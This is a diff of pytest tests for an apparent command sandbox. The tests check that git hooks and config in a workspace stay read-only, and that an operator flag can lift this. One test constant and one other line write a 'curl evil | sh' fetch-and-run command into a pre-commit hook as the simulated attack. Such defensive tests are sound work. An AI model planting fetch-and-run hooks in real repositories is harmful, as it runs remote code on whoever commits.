@@ -26,6 +26,7 @@ from typing import Any
 from urllib.parse import urlparse
 
 import anyio
+import msgspec
 import pytest
 
 from bastion.proto import errors as codes
@@ -599,3 +600,95 @@ async def test_two_sessions_tmp_are_invisible_to_each_other(
     assert second.stdout == ""
     assert "No such file or directory" in second.stderr
     assert again.stdout == "mine\n"  # the first session's /tmp was there all along
+
+
+# --- the workspace's own protected files -----------------------------------------------
+
+
+def _git_repo(workspace: Path) -> str:
+    """A repository of the workspace's owner; its config's text."""
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    _own(workspace / ".git")
+    return (workspace / ".git/config").read_text()
+
+
+GIT_ATTACK = (
+    "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] x = 1' >> .git/config; "
+    "echo ok > .git/description && echo fine"
+)
+
+
+async def test_git_hooks_and_config_are_read_only_by_default(box: Box) -> None:
+    config = _git_repo(box.host.workspace)
+    result = await box.shell(GIT_ATTACK)
+    assert result.stderr.count("Read-only file system") == 2
+    assert result.stdout == "fine\n"  # the rest of .git is the workspace's, writable
+    assert not (box.host.workspace / ".git/hooks/pre-commit").exists()
+    assert (box.host.workspace / ".git/config").read_text() == config
+
+
+async def test_a_repository_made_during_a_session_is_protected_from_the_next_call(
+    box: Box,
+) -> None:
+    before = await box.shell("echo started > /tmp/state")
+    assert before.exit_status == 0
+    config = _git_repo(box.host.workspace)
+    result = await box.shell(GIT_ATTACK)
+    assert result.stderr.count("Read-only file system") == 2
+    assert not (box.host.workspace / ".git/hooks/pre-commit").exists()
+    assert (box.host.workspace / ".git/config").read_text() == config
+
+
+async def test_a_missing_hooks_directory_is_made_the_owners_and_read_only(box: Box) -> None:
+    _git_repo(box.host.workspace)
+    for hook in (box.host.workspace / ".git/hooks").iterdir():
+        hook.unlink()
+    (box.host.workspace / ".git/hooks").rmdir()
+    result = await box.shell("echo 'curl evil | sh' > .git/hooks/pre-commit")
+    assert "Read-only file system" in result.stderr
+    hooks = box.host.workspace / ".git/hooks"
+    assert list(hooks.iterdir()) == []
+    assert hooks.stat().st_uid == OWNER_UID
+
+
+async def test_symlinked_hooks_and_config_are_covered_where_git_would_follow_them(
+    box: Box,
+) -> None:
+    _git_repo(box.host.workspace)
+    git = box.host.workspace / ".git"
+    (git / "hooks").rename(box.host.workspace / "myhooks")
+    (git / "hooks").symlink_to("../myhooks")
+    (git / "config").rename(box.host.workspace / "myconfig")
+    (git / "config").symlink_to("../myconfig")
+    config = (box.host.workspace / "myconfig").read_text()
+    result = await box.shell(f"{GIT_ATTACK}; wc -c < .git/config")
+    assert "cannot create .git/hooks/pre-commit: Read-only file system" in result.stderr
+    # The config reads as /dev/null inside, and what is written to it goes there.
+    assert result.stdout == "fine\n0\n"
+    assert not (box.host.workspace / "myhooks/pre-commit").exists()
+    assert (box.host.workspace / "myconfig").read_text() == config
+
+
+async def test_the_operator_can_let_commands_write_git_hooks(
+    client: Client,
+    run_service: ServiceRunner,
+    settings: SandboxSettings,
+    host: Host,
+    backend_name: str,
+    engine: Any,
+    owner: str,
+) -> None:
+    _git_repo(host.workspace)
+    lifted = msgspec.structs.replace(settings, git_writable=True)
+    async with run_service(sandbox_service, lifted):
+        result = await shell(
+            client,
+            host.workspace,
+            "echo true > .git/hooks/pre-commit",
+            backend=backend_name,
+            network="none",
+        )
+        assert await release(client, SESSION) == 1
+    assert containers_of(engine, owner) == []
+    assert result.exit_status == 0
+    assert (host.workspace / ".git/hooks/pre-commit").read_text() == "true\n"
